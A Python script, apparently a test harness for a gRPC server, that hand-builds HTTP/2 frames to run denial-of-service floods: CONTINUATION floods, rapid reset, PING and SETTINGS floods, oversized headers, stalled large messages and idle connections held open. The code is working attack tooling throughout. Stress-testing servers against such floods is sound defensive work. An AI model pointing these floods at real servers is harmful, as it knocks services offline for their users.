"""Peers that speak HTTP/2 by bytes, to do what no honest client does.

As a program, which goes on until its input ends: hostile.py KIND ADDRESS [CERTIFICATE KEY CA] floods, over TLS where files are given, and
connects again whenever it is cut. It prints "flooding" once it has sent something, and at last how many bytes it could send and how often
it was cut. hostile.py silent ADDRESS COUNT keeps COUNT connections open that say nothing, and opens another for each that ends.
"""

import contextlib
import os
import select
import socket
import ssl
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RESET, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4


def frame(kind, flags, stream, body=b""):
    return struct.pack(">I", len(body))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + body


def length(value):
    """An HPACK string length (RFC 7541, 5.1), not Huffman-coded."""
    if value < 127:
        return bytes([value])
    out, value = b"\x7f", value - 127
    while value >= 128:
        out, value = out + bytes([value % 128 + 128]), value // 128
    return out + bytes([value])


def header(name, value):
    return b"\0" + length(len(name)) + name + length(len(value)) + value


GREETING = PREFACE + frame(SETTINGS, 0, 0)
ACKNOWLEDGE = frame(SETTINGS, ACK, 0)


def call(path):
    """The header block of a call."""
    return (header(b":method", b"POST") + header(b":scheme", b"http") + header(b":path", path) +
            header(b":authority", b"localhost") + header(b"te", b"trailers") + header(b"content-type", b"application/grpc"))


CALL = call(b"/grpc.health.v1.Health/Check")


def whole_call(stream, path, message):
    """All frames of a call with one message."""
    return (frame(HEADERS, END_HEADERS, stream, call(path)) +
            frame(DATA, END_STREAM, stream, b"\0" + struct.pack(">I", len(message)) + message))


def connect(address):
    """`address` as the daemon writes it: unix:/path or host:port."""
    if address.startswith("unix:"):
        peer = socket.socket(socket.AF_UNIX)
        peer.connect(address[5:])
        return peer
    host, port = address.rsplit(":", 1)
    return socket.create_connection((host.strip("[]"), int(port)))


class Ciphered:
    """A connected socket over TLS, with the errors of a plain one: that it would have to wait is BlockingIOError."""

    def __init__(self, peer, context):
        peer.settimeout(HANDSHAKE_PATIENCE)
        self.peer = context.wrap_socket(peer, server_hostname="localhost")
        self.close, self.fileno, self.setblocking = self.peer.close, self.peer.fileno, self.peer.setblocking

    def send(self, data):
        return self.unless_it_waits(self.peer.send, data)

    def recv(self, size):
        return self.unless_it_waits(self.peer.recv, size)

    def unless_it_waits(self, call, argument):
        try:
            return call(argument)
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError) as error:
            raise BlockingIOError from error


HANDSHAKE_PATIENCE = 10  # seconds


def tls_context(ca, certificate=None, key=None):
    """Of a client that trusts `ca` and shows `certificate`; PEM files."""
    context = ssl.create_default_context(cafile=str(ca))
    context.set_alpn_protocols(["h2"])
    if certificate is not None:
        context.load_cert_chain(str(certificate), str(key))
    return context


def endless(name, value, acknowledged):
    """A header block that does not end, as frames of at most 16 KB."""
    yield GREETING + (ACKNOWLEDGE if acknowledged else b"") + frame(HEADERS, 0, 1, CALL)
    field = header(name, value)
    part = frame(CONTINUATION, 0, 1, field * (16000 // len(field)))
    while True:
        yield part


def large_headers(streams=1000):
    yield GREETING
    block = CALL + header(b"x-large", b"v" * 15000)
    for number in range(streams):
        yield frame(HEADERS, END_HEADERS, 2 * number + 1, block)
    while True:
        yield b""  # and waits


def rapid_reset(acknowledged):
    yield GREETING + (ACKNOWLEDGE if acknowledged else b"")
    stream = 1
    while True:
        part = b""
        for _ in range(100):
            part += frame(HEADERS, END_HEADERS, stream, CALL) + frame(RESET, 0, stream, struct.pack(">I", 8))
            stream += 2
        yield part


def control(one):
    yield GREETING + ACKNOWLEDGE
    while True:
        yield one * 500


class Windows:
    """What the server lets a client send, from the frames that it writes (RFC 9113, 6.9)."""

    def __init__(self):
        self.unread, self.all, self.initial, self.of = b"", 65535, 65535, {}

    def take(self, data):
        self.unread += data
        while len(self.unread) >= 9:
            size = int.from_bytes(self.unread[:3], "big")
            if len(self.unread) < 9 + size:
                return
            kind, flags, stream = self.unread[3], self.unread[4], int.from_bytes(self.unread[5:9], "big")
            body, self.unread = self.unread[9:9 + size], self.unread[9 + size:]
            if kind == WINDOW_UPDATE and stream == 0:
                self.all += int.from_bytes(body, "big")
            elif kind == WINDOW_UPDATE:
                self.of[stream] = self.of.get(stream, 0) + int.from_bytes(body, "big")
            elif kind == SETTINGS and not flags & ACK:
                for at in range(0, size, 6):
                    if int.from_bytes(body[at:at + 2], "big") == 4:
                        self.initial = int.from_bytes(body[at + 2:at + 6], "big")

    def spend(self, stream, size):
        if self.all < size or self.initial + self.of.get(stream, 0) < size:
            return False
        self.all -= size
        self.of[stream] = self.of.get(stream, 0) - size
        return True


def open_messages(windows, streams=120, size=15 << 20):
    """Many calls, each with a long message that does not come to its end."""
    numbers = [2 * number + 1 for number in range(streams)]
    part = GREETING + ACKNOWLEDGE
    for number in numbers:
        windows.spend(number, 5)
        part += frame(HEADERS, END_HEADERS, number, CALL) + frame(DATA, 0, number, b"\0" + struct.pack(">I", size))
    yield part
    left = {number: size - 16000 for number in numbers}
    while True:
        parts = []
        for number in numbers:
            if left[number] > 16000 and windows.spend(number, 16000):
                left[number] -= 16000
                parts.append(frame(DATA, 0, number, b"x" * 16000))
        yield b"".join(parts)


# One for each row of attacks that were seen to take memory or time.
FLOODS = {
    "endless-empty-headers": lambda _: endless(b"", b"", False),
    "endless-large-headers": lambda _: endless(b"a", b"v" * 15000, False),
    "endless-acknowledged": lambda _: endless(b"a", b"v" * 4000, True),
    "large-headers": lambda _: large_headers(),
    "rapid-reset": lambda _: rapid_reset(False),
    "rapid-reset-acknowledged": lambda _: rapid_reset(True),
    "ping": lambda _: control(frame(PING, 0, 0, b"12345678")),
    "settings": lambda _: control(frame(SETTINGS, 0, 0)),
    "open-messages": open_messages,
}
# Connections at a time, where it is not one.
CONNECTIONS = {"large-headers": 16}
LONGEST = 20  # seconds until the first cut


class Flood:
    """One connection after the other."""

    def __init__(self, kind, address, context):
        self.kind, self.address, self.context = kind, address, context
        self.sent = self.cuts = 0
        self.peer = None

    def begin(self):
        peer = connect(self.address)
        self.peer = peer if self.context is None else Ciphered(peer, self.context)
        self.peer.setblocking(False)
        self.windows = Windows()
        self.parts = FLOODS[self.kind](self.windows)
        self.rest = b""

    def step(self):
        """Sends and reads what goes at once."""
        try:
            if self.peer is None:
                self.begin()
            if not self.rest:
                self.rest = next(self.parts)
            if self.rest:
                count = self.peer.send(self.rest)
                self.sent += count
                self.rest = self.rest[count:]
        except BlockingIOError:
            pass
        except OSError:
            self.again()
            return
        try:
            data = self.peer.recv(1 << 16)
            if data == b"":
                self.again()
            self.windows.take(data)
        except BlockingIOError:
            pass
        except OSError:
            self.again()

    def again(self):
        self.cuts += 1
        if self.peer is not None:
            self.peer.close()
        self.peer = None


def stay_silent(address, count):
    peers = []
    with select.epoll() as poll:
        poll.register(sys.stdin, select.EPOLLIN)
        while True:
            while len(peers) < count:
                try:
                    peers.append(connect(address))
                except OSError:  # the backlog is full, or the daemon is not there
                    break
            if any(number == sys.stdin.fileno() for number, _ in poll.poll(0.05)):
                return
            gone = select_ended(peers)
            for peer in gone:
                peer.close()
            peers = [peer for peer in peers if peer not in gone]


def select_ended(peers):
    poll = select.poll()
    for peer in peers:
        poll.register(peer, select.POLLIN)
    ended = {number for number, _ in poll.poll(0)}
    # A server may greet first; that is no end.
    return {peer for peer in peers if peer.fileno() in ended and has_ended(peer)}


def has_ended(peer):
    try:
        return peer.recv(1 << 16, socket.MSG_DONTWAIT) == b""
    except BlockingIOError:
        return False
    except OSError:
        return True


def flood(kind, address, context):
    floods = [Flood(kind, address, context) for _ in range(CONNECTIONS.get(kind, 1))]
    began = time.monotonic()
    said = False
    os.nice(5)
    # A busy machine gives a flood little; it goes on until it was cut, or surely is not.
    while not select.select([sys.stdin], [], [], 0)[0] or (not any(one.cuts for one in floods) and time.monotonic() < began + LONGEST):
        for one in floods:
            one.step()
        if not said and all(one.sent for one in floods):
            said = True
            print("flooding", flush=True)
        waiting = [one.peer for one in floods if one.peer is not None]
        with contextlib.suppress(OSError, ValueError):
            select.select(waiting, [one.peer for one in floods if one.peer is not None and one.rest], [], 0.01)
    print(sum(one.sent for one in floods), sum(one.cuts for one in floods))


def main():
    kind, address, *more = sys.argv[1:]
    if kind == "silent":
        stay_silent(address, int(*more))
    else:
        certificate, key, ca = more or (None, None, None)
        flood(kind, address, None if ca is None else tls_context(ca, certificate, key))


if __name__ == "__main__":
    main()
